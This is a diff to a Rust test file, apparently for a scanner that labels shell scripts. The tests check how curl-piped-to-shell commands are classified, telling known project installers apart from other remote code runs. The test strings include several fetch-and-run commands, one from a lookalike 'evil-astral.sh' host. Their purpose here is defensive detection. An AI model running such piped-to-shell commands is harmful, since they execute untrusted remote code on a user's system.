@@ -38,6 +38,11 @@ fn well_known_installers_are_reported_lower() {
     assert_eq!(ids("run.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh\n"), ["remote-code-installer"]);
     assert_eq!(ids("run.sh", "curl -LsSf https://astral.sh/uv/install.sh | sh\n"), ["remote-code-installer"]);
     assert_eq!(ids("run.sh", "curl -fsSL https://evil-astral.sh/x | sh\n"), ["remote-code-run"]);
+    // A project's own folder on a shared host is its installer; another folder there is not.
+    let trivy = "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh\n";
+    assert_eq!(ids("run.sh", trivy), ["remote-code-installer"]);
+    let tfsec = "curl -s https://raw.githubusercontent.com/aquasecurity/tfsec/master/scripts/install_linux.sh | bash\n";
+    assert_eq!(ids("run.sh", tfsec), ["remote-code-run"]);
 }
 
 #[test]
